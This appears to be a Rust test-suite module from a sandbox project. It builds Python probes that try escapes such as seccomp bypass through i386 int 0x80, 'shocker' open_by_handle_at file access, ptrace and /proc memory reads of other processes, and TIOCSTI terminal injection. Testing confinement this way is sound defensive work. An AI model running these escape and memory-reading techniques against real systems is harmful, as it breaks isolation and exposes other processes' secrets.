//! Small Python 3 programs the attack scripts run (system `/usr/bin/python3`, stdlib only):
//! raw syscalls through `ctypes`, sockets, and the pty harness of the TIOCSTI tests.
//! Each prints `ZC_ESCAPED` only when the forbidden action worked.

use super::PYTHON;

/// A shell fragment running `src` with `args` (already shell-safe words).
pub fn py(src: &str, args: &[String]) -> String {
    let quoted = src.replace('\'', r"'\''");
    format!("{PYTHON} -c '{quoted}' {}", args.join(" "))
}

/// Shared prelude: libc through ctypes and a reporter for raw syscalls.
const PRELUDE: &str = r#"
import ctypes, os, socket, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def report(name, ret):
    print(f"{name} ret={ret} errno={ctypes.get_errno()}", flush=True)
    if ret >= 0:
        print("ZC_ESCAPED", name, flush=True)
"#;

fn with_prelude(body: &str) -> String {
    format!("{PRELUDE}{body}")
}

/// `syscall(nr, ...)` probes of kernel attack surface; argv[1] names which.
pub fn kernel_surface() -> String {
    with_prelude(
        r#"
what = sys.argv[1]
buf = ctypes.create_string_buffer(256)
if what == "io_uring_setup":
    report(what, libc.syscall(ctypes.c_long(425), ctypes.c_long(4), buf))
elif what == "bpf":
    attr = ctypes.create_string_buffer(struct.pack("=IIII", 2, 4, 4, 1), 128)
    report(what, libc.syscall(ctypes.c_long(321), ctypes.c_long(0), attr, ctypes.c_long(128)))
elif what == "perf_event_open":
    attr = ctypes.create_string_buffer(struct.pack("=IIQQQQQ", 1, 128, 0, 0, 0, 1, 0), 128)
    L = ctypes.c_long
    report(what, libc.syscall(L(298), attr, L(0), L(-1), L(-1), L(0)))
elif what == "userfaultfd":
    report(what, libc.syscall(ctypes.c_long(323), ctypes.c_long(1)))
elif what == "add_key":
    report(what, libc.syscall(ctypes.c_long(248), b"user", b"zc-escape", b"data", ctypes.c_long(4), ctypes.c_long(-2)))
elif what == "clone3_user":
    args = ctypes.create_string_buffer(struct.pack("=QQQQQQQQ", 0x10000000, 0, 0, 0, 17, 0, 0, 0), 88)
    pid = libc.syscall(ctypes.c_long(435), args, ctypes.c_long(88))
    if pid == 0:
        os._exit(0)
    report(what, pid)
    if pid > 0:
        os.waitpid(pid, 0)
elif what == "unshare_user":
    report(what, libc.unshare(0x10000000))
elif what == "unshare_mount":
    report(what, libc.unshare(0x00020000))
"#,
    )
}

/// argv: pid addr — `PTRACE_ATTACH` then `PTRACE_PEEKDATA` of 64 bytes at addr.
pub fn ptrace_peek() -> String {
    with_prelude(
        r#"
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid, addr = int(sys.argv[1]), int(sys.argv[2])
ret = libc.ptrace(16, pid, None, None)
report("ptrace_attach", ret)
if ret == 0:
    os.waitpid(pid, 0x40000000)
    data = b"".join((libc.ptrace(2, pid, addr + 8 * i, None) & (2**64 - 1)).to_bytes(8, "little") for i in range(8))
    libc.ptrace(17, pid, None, None)
    print("peeked", data.split(b"\0")[0].decode(errors="replace"))
"#,
    )
}

/// argv: pid addr — `process_vm_readv` of 128 bytes at addr.
pub fn process_vm_readv() -> String {
    with_prelude(
        r#"
class Iov(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
pid, addr = int(sys.argv[1]), int(sys.argv[2])
buf = ctypes.create_string_buffer(128)
local, remote = Iov(ctypes.addressof(buf), 128), Iov(addr, 128)
n = libc.syscall(310, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
report("process_vm_readv", n)
print("read", buf.raw[: max(n, 0)].split(b"\0")[0].decode(errors="replace"))
"#,
    )
}

/// argv: pid addr — read `/proc/pid/mem` at addr.
pub fn proc_mem() -> String {
    with_prelude(
        r#"
pid, addr = int(sys.argv[1]), int(sys.argv[2])
try:
    with open(f"/proc/{pid}/mem", "rb") as f:
        f.seek(addr)
        print("read", f.read(64).split(b"\0")[0].decode(errors="replace"))
        print("ZC_ESCAPED")
except OSError as e:
    print("proc mem:", e)
"#,
    )
}

/// Scans the readable memory of every ancestor process (through `/proc/<pid>/mem`) for
/// canary-shaped strings and prints each one found.
pub fn ancestor_memory() -> String {
    with_prelude(
        r#"
import re
pid, found = os.getppid(), set()
for _ in range(8):
    if pid <= 0:
        break
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                span, perms = line.split()[:2]
                lo, hi = (int(x, 16) for x in span.split("-"))
                if not perms.startswith("r") or hi - lo > 256 << 20:
                    continue
                try:
                    mem.seek(lo)
                    found.update(re.findall(rb"ZCCANARY[0-9a-fx]+", mem.read(hi - lo)))
                except (OSError, ValueError, OverflowError):
                    pass
    except OSError as e:
        print("pid", pid, e)
    try:
        with open(f"/proc/{pid}/stat") as f:
            pid = int(f.read().rsplit(")", 1)[1].split()[1])
    except OSError:
        break
for s in sorted(found):
    print("found", s.decode())
"#,
    )
}

/// i386 syscalls through `int 0x80` from the 64-bit process (a classic seccomp bypass when a
/// filter checks syscall numbers but not the architecture). argv: what [port].
pub fn i386() -> String {
    with_prelude(
        r#"
import mmap
def int80(nr, a=0, b=0, c=0):
    w = lambda v: struct.pack("<I", v & 0xFFFFFFFF)
    code = b"\x53\xb8" + w(nr) + b"\xbb" + w(a) + b"\xb9" + w(b) + b"\xba" + w(c) + b"\xcd\x80\x5b\x48\x63\xc0\xc3"
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
what = sys.argv[1]
print("i386 getpid", int80(20), "native", os.getpid(), flush=True)
if what == "socket":
    fd = int80(359, socket.AF_INET, socket.SOCK_DGRAM, 0)
    print("i386 socket", fd, flush=True)
    if fd >= 0:
        socket.socket(fileno=fd).sendto(b"zc", ("127.0.0.1", int(sys.argv[2])))
        print("ZC_ESCAPED i386 socket", flush=True)
elif what == "unshare":
    report("i386 unshare", int80(310, 0x10000000))
"#,
    )
}

/// File handles ("shocker"): `get PATH` prints `HANDLE <hex>` for PATH; `open HEX` opens the
/// file behind a handle with `open_by_handle_at` on `/` and prints its content.
pub fn file_handle() -> String {
    with_prelude(
        r#"
L = ctypes.c_long
if sys.argv[1] == "get":
    fh = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0), 8 + 128)
    mount_id = ctypes.c_int(0)
    report("name_to_handle_at", libc.syscall(L(303), L(-100), sys.argv[2].encode(), fh, ctypes.byref(mount_id), L(0)))
    size = struct.unpack_from("=I", fh.raw)[0]
    print("HANDLE", fh.raw[: 8 + size].hex(), flush=True)
else:
    fh = ctypes.create_string_buffer(bytes.fromhex(sys.argv[2]), 8 + 128)
    root = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    fd = libc.syscall(L(304), L(root), fh, L(os.O_RDONLY))
    report("open_by_handle_at", fd)
    if fd >= 0:
        print(os.read(fd, 4096).decode(errors="replace"), flush=True)
"#,
    )
}

/// argv: kind host port — connect/send to a listener the test opened.
pub fn net_send() -> String {
    with_prelude(
        r#"
kind, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
fam = socket.AF_INET6 if ":" in host else socket.AF_INET
try:
    if kind == "tcp":
        s = socket.create_connection((host, port), timeout=10)
        s.sendall(b"zc")
    elif kind == "udp":
        s = socket.socket(fam, socket.SOCK_DGRAM)
        s.sendto(b"zc", (host, port))
    elif kind == "dns":
        s = socket.socket(fam, socket.SOCK_DGRAM)
        q = struct.pack("!HHHHHH", 0x2a2a, 0x0100, 1, 0, 0, 0) + b"\x09localhost\x00" + struct.pack("!HH", 1, 1)
        s.sendto(q, (host, port))
    elif kind == "raw_udp":
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
        s.sendto(struct.pack("!HHHH", 40000, port, 10, 0) + b"zc", (host, 0))
    elif kind == "unix":
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.connect(host.replace("@", "\0", 1))
        s.sendall(b"zc")
    print("ZC_ESCAPED", kind, flush=True)
except OSError as e:
    print(kind, "failed:", e, flush=True)
"#,
    )
}

/// Opens an `AF_PACKET` raw socket and binds it to `lo`.
pub fn packet_socket() -> String {
    with_prelude(
        r#"
try:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    s.bind(("lo", 0))
    print("ZC_ESCAPED packet socket", flush=True)
except OSError as e:
    print("packet failed:", e, flush=True)
"#,
    )
}

/// Dumps the interfaces visible through `NETLINK_ROUTE` as `IF:name` lines.
pub fn netlink_links() -> String {
    with_prelude(
        r#"
try:
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.bind((0, 0))
    s.send(struct.pack("=IHHII", 32, 18, 0x301, 1, 0) + struct.pack("=BxHiII", 0, 0, 0, 0, 0))
    names, done = set(), False
    while not done:
        data, off = s.recv(65536), 0
        while off < len(data):
            ln, typ = struct.unpack_from("=IH", data, off)
            if typ in (2, 3) or ln < 16:
                done = True
                break
            a = off + 32
            while typ == 16 and a + 4 <= off + ln:
                alen, atyp = struct.unpack_from("=HH", data, a)
                if alen < 4:
                    break
                if atyp == 3:
                    names.add(data[a + 4 : a + alen].split(b"\0")[0].decode())
                a += (alen + 3) & ~3
            off += (ln + 3) & ~3
    for n in sorted(names):
        print("IF:" + n, flush=True)
except OSError as e:
    print("netlink failed:", e, flush=True)
"#,
    )
}

/// argv: request payload tty-path — TIOCSTI `payload` through fds 0-2, the tty path and
/// `/dev/tty`, with the raw ioctl syscall so high request bits reach the kernel unchanged.
pub fn tiocsti() -> String {
    with_prelude(
        r#"
req, payload, path = int(sys.argv[1], 0), sys.argv[2].encode(), sys.argv[3]
fds = [0, 1, 2]
for p in (path, "/dev/tty"):
    try:
        fds.append(os.open(p, os.O_RDWR | os.O_NOCTTY))
    except OSError as e:
        print("open", p, e, flush=True)
for fd in fds:
    rets = [libc.syscall(16, fd, ctypes.c_ulong(req), ctypes.c_char_p(bytes([c]))) for c in payload]
    print("fd", fd, "rets", set(rets), "errno", ctypes.get_errno(), flush=True)
"#,
    )
}

/// The outside half of the TIOCSTI tests: runs argv (with `@TTY@` replaced by the pty's
/// path) on a fresh pty as its controlling terminal, relays what it printed, then reports
/// what was injected into the terminal's input queue as `INJECTED:<bytes>`.
pub const PTY_HARNESS: &str = r#"
import fcntl, os, pty, select, subprocess, sys, termios
master, slave = pty.openpty()
name = os.ttyname(slave)
attrs = termios.tcgetattr(slave)
attrs[3] &= ~(termios.ICANON | termios.ECHO)
termios.tcsetattr(slave, termios.TCSANOW, attrs)
def ctty():
    os.setsid()
    fcntl.ioctl(0, termios.TIOCSCTTY, 0)
argv = [a.replace("@TTY@", name) for a in sys.argv[1:]]
child = subprocess.Popen(argv, stdin=slave, stdout=slave, stderr=slave, preexec_fn=ctty)
out = b""
while True:
    ready, _, _ = select.select([master], [], [], 0.05)
    if ready:
        out += os.read(master, 65536)
    elif child.poll() is not None:
        break
os.set_blocking(slave, False)
try:
    injected = os.read(slave, 4096)
except BlockingIOError:
    injected = b""
print(out.decode(errors="replace"))
print("status", child.returncode)
print("INJECTED:" + injected.decode(errors="replace"))
"#;
